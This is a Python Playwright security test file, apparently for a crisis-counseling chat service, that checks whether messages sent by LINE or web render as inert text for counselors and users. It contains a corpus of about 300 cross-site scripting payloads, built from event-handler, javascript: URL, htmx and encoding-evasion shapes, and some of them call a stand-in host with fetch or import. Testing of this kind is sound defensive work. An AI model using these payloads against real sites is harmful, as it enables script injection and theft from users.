"""In a real Chromium: nothing that people write comes alive, on the counselor's screen or on their own."""

from __future__ import annotations

from itertools import product
from typing import Final

from playwright.async_api import BrowserContext, Page, async_playwright
from sqlalchemy import select

from bot.store.schema import tickets
from tests.attack.bars import NotRun, bar, check
from tests.attack.people import cry, routes
from tests.attack.stage import Stage
from tests.provision import Unavailable, chromium

CALLS: Final = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "import('//evil.example')",
    "fetch('//evil.example')",
)
SHAPES: Final = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{}>x</a>",
    "<a href='java&#9;script:{}'>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<math><mtext></p><img src=x onerror={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<base href=//evil.example/><script src=x>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import '//evil.example/{}';</style>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<div hx-get=/admin hx-trigger=load hx-on:load={}>x</div>",
    "<div data-hx-post=/admin/logout data-hx-trigger=load>{}</div>",
    "<template shadowrootmode=open><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea></textarea><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    '"><script>{}</script>',
    "' onmouseover='{}",
    '" autofocus onfocus="{}',
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "${{{}}}",
    "`${{{}}}`",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "＜script＞{}＜/script＞",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<\x00script>{}</script>",
    "<scr\u00adipt>{}</script>",
    "\u202e<script>{}</script>",
    "<img src=x:{} onerror=eval(src)>",
    "<a href='https://evil.example' onclick={} ping=//evil.example>x</a>",
    "<portal src=javascript:{}>",
    "<xss style=animation-name:x onanimationstart={}>",
    "<button formaction=javascript:{}>x</button>",
    "<input type=hidden accesskey=x onclick={}>",
    "[x](javascript:{})",
    '![x](x"onerror="{})',
    "<!--#exec cmd={} -->",
    "<?xml-stylesheet href=javascript:{}?>",
    "<svg><use href='data:image/svg+xml,<script>{}</script>'/></svg>",
    "<marquee onstart={}>",
    "<select onfocus={} autofocus>",
    "<audio src onerror={}>",
    "<keygen autofocus onfocus={}>",
)
CORPUS: Final = tuple(shape.format(call) for shape, call in product(SHAPES, CALLS))
LIVE: Final = """() => {
  const log = document.querySelector('#th-log, #log');
  if (!log) return ['no thread on this page'];
  const bad = [...log.querySelectorAll('script, iframe, object, embed, base, meta, link, style, svg, math, img, ' +
    'form form, video, audio, template')].map((one) => one.tagName);
  for (const one of log.querySelectorAll('*')) for (const {name, value} of one.attributes)
    if (/^on/i.test(name) || /^(data-)?hx-/i.test(name) || /^\\s*(javascript|data):/i.test(value))
      bad.push(one.tagName + ' ' + name);
  return bad;
}"""
WATCH: Final = "addEventListener('securitypolicyviolation', (e) => console.error('csp', e.violatedDirective))"


async def watched(stage: Stage, context: BrowserContext) -> tuple[Page, list[str]]:
    """A page, and everything it did that it should not."""
    page, wrong = await context.new_page(), list[str]()
    await page.add_init_script(WATCH)

    async def dialog(one: object) -> None:
        wrong.append("a dialog opened")
        await one.dismiss()  # type: ignore[attr-defined]

    page.on("dialog", dialog)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("console", lambda told: wrong.append(told.text) if told.type == "error" else None)
    page.on(
        "request",
        lambda asked: None if asked.url.startswith((stage.url, "data:")) else wrong.append(asked.url),
    )
    return page, wrong


def cookies(stage: Stage, cookie: str) -> dict[str, str]:
    name, _, value = cookie.partition("=")
    return {"name": name, "value": value, "url": stage.url}


@bar("B26", "a corpus of 300 scripts, by LINE and by web")
async def scripts(stage: Stage) -> str:
    """Every one is shown as the words it is: on the counselor's page and in the person's own chat."""
    try:
        path = chromium.require().path
    except Unavailable as error:
        raise NotRun(str(error)) from error
    user = stage.line.new_user()
    await stage.line.says(user, "死にたい " + CORPUS[0])
    for start in range(1, len(CORPUS), 20):
        await stage.line.deliver(*[stage.line.text(user, text) for text in CORPUS[start : start + 20]])
    person = await stage.person()
    for text in CORPUS[::6]:
        check((await person.says(text)).status in (202, 400), "a text was not taken")
    await stage.settled()
    ticket = await newest(stage)
    async with async_playwright() as playwright:
        chrome = await playwright.chromium.launch(**chromium.launch_options(path))
        context = await chrome.new_context(base_url=stage.url, locale="ja-JP")
        await context.add_cookies([cookies(stage, stage.member("counselor")), cookies(stage, person.cookie)])  # type: ignore[list-item]
        page, wrong = await watched(stage, context)
        shown = 0
        for address in (f"/admin/tickets/{ticket}", "/admin", "/chat"):
            await page.goto(address)
            if address != "/admin":
                wrong += await page.evaluate(LIVE)
                shown += await page.locator("#th-log, #log").inner_text() != ""
            for link in await page.locator("#th-log a[href*='before=']").all():
                del link  # older lines are taken in by script
                await page.evaluate("document.querySelector(\"#th-log a[href*='before=']\")?.click()")
                await page.wait_for_timeout(300)
                wrong += await page.evaluate(LIVE)
        await chrome.close()
    check(not wrong, f"{len(wrong)} came alive: {sorted(set(wrong))[:5]}")
    check(shown == 2, "a thread was not shown at all")
    return f"{len(CORPUS)} texts by LINE, {len(CORPUS[::6])} by web: 0 dialogs, 0 live nodes, 0 violations"


async def newest(stage: Stage) -> str:
    """The ticket of who was in danger last."""
    query = select(tickets.c.ticket_id).order_by(tickets.c.opened_at.desc()).limit(1)
    return str(stage.rows(query)[0][0])


@bar("B25", "every page in a browser, with a listener")
async def violations(stage: Stage) -> str:
    """All pages in three roles and for the public: no violation of the policy, no request to anybody else."""
    try:
        path = chromium.require().path
    except Unavailable as error:
        raise NotRun(str(error)) from error
    ticket = await cry(stage, "見る")
    pages = sorted(
        {
            pattern.replace("{ticket}", ticket)
            for method, pattern in routes(stage)
            if method == "GET" and not pattern.endswith(("/stream", ".ics")) and "/static/" not in pattern
        }
    )
    visited, wrong = 0, list[str]()
    async with async_playwright() as playwright:
        chrome = await playwright.chromium.launch(**chromium.launch_options(path))
        for role in ("", "counselor", "lead", "operator"):
            context = await chrome.new_context(base_url=stage.url, locale="ja-JP", accept_downloads=False)
            if role:
                await context.add_cookies([cookies(stage, stage.member(role))])  # type: ignore[list-item]
            page, told = await watched(stage, context)
            for address in pages:
                if "{" in address or address.endswith((".csv", "/metrics", ".css", ".json")):
                    continue
                await page.goto(address)
                visited += 1
            wrong += [one for one in told if "status of 4" not in one and "status of 503" not in one]
            await context.close()
        await chrome.close()
    check(not wrong, f"{sorted(set(wrong))[:5]}")
    return f"{visited} pages, 0 violations, 0 requests to others"
